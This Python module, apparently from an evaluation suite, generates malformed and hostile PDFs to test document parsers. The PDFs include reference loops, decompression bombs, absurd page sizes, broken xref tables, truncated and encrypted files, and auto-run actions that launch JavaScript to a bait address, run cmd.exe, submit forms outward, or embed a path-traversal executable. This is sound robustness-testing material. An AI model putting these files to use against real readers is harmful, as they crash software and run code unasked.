"""PDF files: loops, bombs, numbers no page has, broken tables, pictures of gigapixels, and what runs by itself."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator, Sequence
from functools import partial

from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen.canvas import Canvas

from evals.traps.trap import Trap, of_bytes, zipped

# The standard fonts have no Vietnamese letters; what stands on the page matters to no trap in here.
TEXT = "Bo da giao doanh nghiep phu song di dong cho cac thon, ban trong nam 2024."
_MEGABYTE = 1 << 20


def traps(bait: str) -> Iterator[Trap]:
    """Hostile structures of PDF."""
    for number, (name, content) in enumerate(_structures().items()):
        yield of_bytes(name, f"{number}.pdf", content)
    for number, (name, content) in enumerate(_streams().items()):
        yield of_bytes(name, f"luong-{number}.pdf", content)
    for number, (name, actions) in enumerate(_actions(bait).items()):
        yield of_bytes(f"by itself: {name}", f"chay-{number}.pdf", partial(simple, catalog=actions))
    whole = _honest()
    for share in (1, 5, 25, 50, 75, 95, 99):
        yield of_bytes(f"cut at {share} %", f"cut-{share}.pdf", partial(_first, whole, share))
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        yield of_bytes(f"locked with {algorithm}", f"khoa-{algorithm}.pdf", partial(_locked, algorithm))
    yield of_bytes("a zip behind it", "zip.pdf", lambda: _honest() + zipped({"word/document.xml": b"<a/>"}))
    yield of_bytes("a thousand bytes before it", "truoc.pdf", lambda: b"x" * 1000 + _honest())
    yield of_bytes("only its first line", "dong.pdf", lambda: b"%PDF-1.7\n")
    yield of_bytes("its first line and noise", "rac.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000)
    yield of_bytes("updated 2,000 times", "cap-nhat.pdf", _updates)


def pdf(objects: Sequence[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF with these objects, numbered from 1, and a right table of places."""
    out = b"%PDF-1.7\n"
    places: list[int] = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    start = len(out)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer <</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (
        count,
        table,
        count,
        trailer,
        start,
    )


def stream(content: bytes, fields: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (fields, len(content), content)


def drawn(text: str = TEXT, before: str = "", at: str = "60 700 Td") -> bytes:
    """Page content that writes one line in 12 points."""
    return f"{before} BT /F1 12 Tf {at} ({text}) Tj ET".encode("latin-1", "replace")


def simple(
    content: bytes = b"", page: bytes = b"", resources: bytes = b"", catalog: bytes = b"", more: Sequence[bytes] = ()
) -> bytes:
    """A PDF of one page; objects 6 and following are `more`."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R %s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>%s>>"
            % (resources, page or b"/MediaBox[0 0 595 842]"),
            stream(content or drawn()),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *more,
        ]
    )


def _structures() -> dict[str, Callable[[], bytes]]:
    catalog, box = b"<</Type/Catalog/Pages 2 0 R>>", b"/MediaBox[0 0 595 842]"
    leaf = b"<</Type/Page/Parent 2 0 R %s>>" % box
    return {
        "pages that hold themselves": lambda: pdf([catalog, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        "pages in a ring of two": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>"]
        ),
        "a tree of pages that multiplies": partial(_page_tree, 10, 10),
        "a tree of pages 5,000 deep": partial(_page_chain, 5000),
        "one page 100,000 times": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000), leaf]
        ),
        "two billion pages by its own count": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", leaf]
        ),
        "minus one pages": lambda: pdf([catalog, b"<</Type/Pages/Kids[3 0 R]/Count -1>>", leaf]),
        "a page that is its own parent": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 3 0 R>>"]
        ),
        "an outline in a ring": lambda: simple(
            catalog=b"/Outlines 6 0 R",
            more=(
                b"<</First 7 0 R/Last 7 0 R/Count 9>>",
                b"<</Title(a)/Parent 6 0 R/Next 8 0 R/First 7 0 R>>",
                b"<</Title(b)/Next 7 0 R/Parent 6 0 R>>",
            ),
        ),
        "names in a ring": lambda: simple(
            catalog=b"/Names<</Dests 6 0 R>>", more=(b"<</Kids[6 0 R]/Limits[(a)(z)]>>",)
        ),
        "labels in a ring": lambda: simple(catalog=b"/PageLabels 6 0 R", more=(b"<</Kids[6 0 R]>>",)),
        "a form field in a ring": lambda: simple(
            catalog=b"/AcroForm<</Fields[6 0 R]>>", more=(b"<</Kids[6 0 R]/T(a)/Parent 6 0 R>>",)
        ),
        "a font whose encoding is itself": lambda: simple(
            more=(b"<</Type/Font/Encoding 6 0 R/ToUnicode 6 0 R/DescendantFonts[6 0 R]>>",)
        ).replace(b"/F1 5 0 R", b"/F1 6 0 R"),
        "a drawing that draws itself": lambda: simple(
            b"/X Do " + drawn(), resources=b"/XObject<</X 6 0 R>>", more=(_form(b"/X Do", b"/XObject<</X 6 0 R>>"),)
        ),
        "drawings that multiply": partial(_drawings, 12, 10),
        "a reference to itself": lambda: pdf([catalog, b"2 0 R"]),
        "lists nested 100,000 deep": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1/X %s%s>>" % (b"[" * 100_000, b"]" * 100_000), leaf]
        ),
        "dictionaries nested 50,000 deep": lambda: pdf(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1/X %s%s>>" % (b"<</A " * 50_000, b">>" * 50_000), leaf]
        ),
        "brackets nested in a string": lambda: simple(b"BT (" + b"(" * 200_000 + b") Tj ET"),
        "a string that never ends": lambda: simple(b"BT /F1 12 Tf (" + b"a" * 2_000_000),
        "a number of 100,000 digits": lambda: simple(page=b"/MediaBox[0 0 %s 842]" % (b"9" * 100_000)),
        "a page as wide as a country": lambda: simple(page=b"/MediaBox[0 0 99999999 99999999]"),
        "a page of no size": lambda: simple(page=b"/MediaBox[0 0 0 0]"),
        "a page inside out": lambda: simple(page=b"/MediaBox[595 842 -595 -842]"),
        "a page of not-a-number": lambda: simple(page=b"/MediaBox[/a (b) null 1e999]"),
        "a unit of a million points": lambda: simple(page=b"/MediaBox[0 0 595 842]/UserUnit 1000000"),
        "a page turned by 45 degrees": lambda: simple(page=b"/MediaBox[0 0 595 842]/Rotate 45"),
        "tables of places in a ring": partial(_xref_ring, b"/Prev 9"),
        "a table that follows itself": partial(_xref_ring, None),
        "a table of two billion lines": lambda: _honest().replace(b"xref\n0 ", b"xref\n0 2147483"),
        "a table beyond the end": lambda: _honest()[:-12] + b"startxref\n999999999999\n%%EOF",
        "no table at all": lambda: _honest().replace(b"xref", b"xxxx"),
        "the number of an object is two billion": lambda: _honest().replace(b"/Size ", b"/Size 2147483647 /X "),
    }


def _streams() -> dict[str, Callable[[], bytes]]:
    return {
        "zeros packed to nothing": partial(_packed, b" " * (200 * _MEGABYTE)),
        "packed nine times over": _nine_filters,
        "a million filters": lambda: _with_fields(b"/Filter[%s]" % (b"/FlateDecode " * 1_000_000), b"a"),
        "a filter that is no filter": lambda: _with_fields(b"/Filter/Klingon", b"a"),
        "a predictor of two billion columns": lambda: _with_fields(
            b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647>>", zlib.compress(drawn())
        ),
        "a predictor of no columns": lambda: _with_fields(
            b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 0/Colors 0>>", zlib.compress(drawn())
        ),
        "run lengths that explode": lambda: _with_fields(b"/Filter/RunLengthDecode", b"\x81 " * 3_000_000 + b"\x80"),
        "LZW that explodes": lambda: _with_fields(b"/Filter/LZWDecode", b"\x80\x0b\x60\x50" + b"\xff" * 2_000_000),
        "letters of base 85": lambda: _with_fields(b"/Filter/ASCII85Decode", b"z" * 5_000_000 + b"~>"),
        "a length of minus one": lambda: simple().replace(b"/Length ", b"/Length -1 /X "),
        "a length of nine quintillion": lambda: simple().replace(b"/Length ", b"/Length 9223372036854775807 /X "),
        "a length that is its own stream": lambda: simple().replace(b"/Length ", b"/Length 4 0 R /X "),
        "a stream of objects that holds itself": partial(_object_stream, 10, b"/Extends 6 0 R"),
        "a stream of two billion objects": partial(_object_stream, 2147483647, b""),
        "a stream of a million objects": _object_bomb,
        "a million letters on a page": lambda: simple(b"BT /F1 1 Tf 60 700 Td " + b"(kien nghi) Tj " * 100_000 + b"ET"),
        "a million lines drawn": lambda: simple(b"0 0 m 9 9 l S " * 1_000_000 + drawn()),
        "states saved a million times": lambda: simple(b"q " * 1_000_000 + drawn()),
        "a picture of 60,000 by 60,000": partial(
            _picture, b"/Width 60000/Height 60000/BitsPerComponent 8/Filter/FlateDecode", zlib.compress(b"\0" * 999)
        ),
        "a picture of 60,000 by 60,000 with one bit": partial(
            _picture,
            b"/Width 60000/Height 60000/BitsPerComponent 1/Filter/FlateDecode",
            zlib.compress(b"\0" * 450_000_000, 1),
        ),
        "a picture of negative width": partial(_picture, b"/Width -5/Height -5/BitsPerComponent 8", b"a"),
        "a picture that masks itself": partial(
            _picture, b"/Width 9/Height 9/BitsPerComponent 8/SMask 6 0 R", b"a" * 81
        ),
        "JBIG2 of noise": partial(
            _picture, b"/Width 900/Height 900/BitsPerComponent 1/Filter/JBIG2Decode", bytes(range(256)) * 40
        ),
        "JPEG 2000 of noise": partial(
            _picture, b"/Width 900/Height 900/Filter/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(range(256)) * 40
        ),
        "fax of noise": partial(
            _picture,
            b"/Width 900/Height 900/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647/Rows 2147483647>>",
            bytes(range(256)) * 40,
        ),
        "JPEG of noise": partial(
            _picture,
            b"/Width 900/Height 900/BitsPerComponent 8/Filter/DCTDecode",
            b"\xff\xd8\xff" + bytes(range(256)) * 40,
        ),
        "2,000 pages of one picture": _picture_pages,
        "a font of noise": partial(_font, bytes(range(256)) * 100),
        "a font whose tables overlap": partial(
            _font, b"\0\1\0\0\xff\xff" + b"glyf\0\0\0\0\0\0\0\x10\xff\xff\xff\xff" * 900
        ),
        "a table of letters without end": lambda: simple(
            more=(
                stream(
                    b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange "
                    + b"1 beginbfrange <0000> <ffff> <0041> endbfrange " * 20_000
                ),
            )
        ).replace(b"/BaseFont/Helvetica", b"/BaseFont/Helvetica/ToUnicode 6 0 R"),
        "a function that calls itself": lambda: simple(
            b"/S sh " + drawn(),
            resources=b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 6 0 R>>>>",
            more=(b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R]/Bounds[]/Encode[0 1]>>",),
        ),
        "a pattern drawn a billion times": lambda: simple(
            b"/Pattern cs /P scn 0 0 595 842 re f " + drawn(),
            resources=b"/Pattern<</P 6 0 R>>",
            more=(
                stream(
                    b"0 0 1 1 re f",
                    b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>",
                ),
            ),
        ),
    }


def _actions(bait: str) -> dict[str, bytes]:
    address = bait.encode()
    return {
        "a script when opened": b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))>>" % address,
        "a program when opened": b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "an address when opened": b"/OpenAction<</S/URI/URI(%s/u)>>" % address,
        "another file when opened": b"/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\a.pdf)/D[0/Fit]>>",
        "a form that sends itself": b"/AA<</WC<</S/SubmitForm/F(%s/f)>>>>" % address,
        "a script by name": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(1\\){})>>]>>>>",
        "a file inside": b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(../../a.exe)/EF<</F 4 0 R>>>>]>>>>",
        "an XFA form": b"/AcroForm<</XFA 4 0 R/Fields[]/NeedAppearances true>>",
        "actions in a ring": b"/OpenAction<</S/Named/N/NextPage/Next 1 0 R>>",
    }


def _first(content: bytes, share: int) -> bytes:
    return content[: max(20, len(content) * share // 100)]


def _honest() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    for page in range(3):
        for row in range(30):
            canvas.drawString(60, 780 - 20 * row, f"{TEXT} So {page * 30 + row}, ngay {row % 28 + 1}/{page + 1}/2024.")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def _locked(algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_honest())))
    writer.encrypt("mật khẩu", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _updates() -> bytes:
    content = _honest()
    for _ in range(2000):
        before = content.rindex(b"startxref\n")
        place = content[before + 10 :].split(b"\n")[0]
        start = len(content) + 1
        content += b"\nxref\n0 0\ntrailer <</Root 1 0 R/Size 9/Prev %s>>\nstartxref\n%d\n%%%%EOF" % (place, start)
    return content


def _page_tree(wide: int, deep: int) -> bytes:
    objects = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for level in range(deep):
        kids = b"%d 0 R " % (level + 3) * wide
        objects.append(b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, wide ** (deep - level)))
    return pdf([*objects, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"])


def _page_chain(deep: int) -> bytes:
    chain = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, deep)]
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", *chain, b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (deep - 1)]
    )


def _form(content: bytes, resources: bytes) -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources)


def _drawings(deep: int, wide: int) -> bytes:
    forms = [_form(b"/X Do " * wide, b"/XObject<</X %d 0 R>>" % (n + 7)) for n in range(deep)]
    last = stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]")
    return simple(b"/X Do " + drawn(), resources=b"/XObject<</X 6 0 R>>", more=(*forms, last))


def _xref_ring(before: bytes | None) -> bytes:
    content = simple()
    start = content.rindex(b"xref\n0 6")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R " + (before or b"/Prev %d" % start))


def _with_fields(fields: bytes, content: bytes) -> bytes:
    start = simple()
    return start.replace(stream(drawn()), stream(content, fields))


def _packed(content: bytes) -> bytes:
    return _with_fields(b"/Filter/FlateDecode", zlib.compress(content, 9))


def _nine_filters() -> bytes:
    content = b" " * (100 * _MEGABYTE)
    for _ in range(9):
        content = zlib.compress(content, 9)
    return _with_fields(b"/Filter[%s]" % (b"/FlateDecode" * 9), content)


def _object_stream(count: int, more: bytes) -> bytes:
    return simple(more=(stream(b"1 0 2 9 <<>> <<>>", b"/Type/ObjStm/N %d/First 8 %s" % (count, more)),))


def _object_bomb() -> bytes:
    head = b" ".join(b"%d %d" % (n, 0) for n in range(10, 200_010))
    packed = zlib.compress(head + b" <<>>")
    return simple(more=(stream(packed, b"/Type/ObjStm/Filter/FlateDecode/N 200000/First %d" % len(head)),))


def _picture(fields: bytes, content: bytes) -> bytes:
    image = stream(content, b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray" + fields)
    return simple(b"q 595 0 0 842 0 0 cm /X Do Q", resources=b"/XObject<</X 6 0 R>>", more=(image,))


def _picture_pages() -> bytes:
    kids = b"".join(b"3 0 R " for _ in range(2000))
    content = _picture(b"/Width 8/Height 8/BitsPerComponent 8", b"\x80" * 64)
    return content.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[%s]/Count 2000" % kids)


def _font(program: bytes) -> bytes:
    descriptor = b"<</Type/FontDescriptor/FontName/A/Flags 32/FontBBox[0 0 1 1]/FontFile2 7 0 R>>"
    font = b"/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 255/Widths[%s]/FontDescriptor 6 0 R" % (b"500 " * 256)
    return simple(more=(descriptor, stream(program))).replace(b"/Subtype/Type1/BaseFont/Helvetica", font)
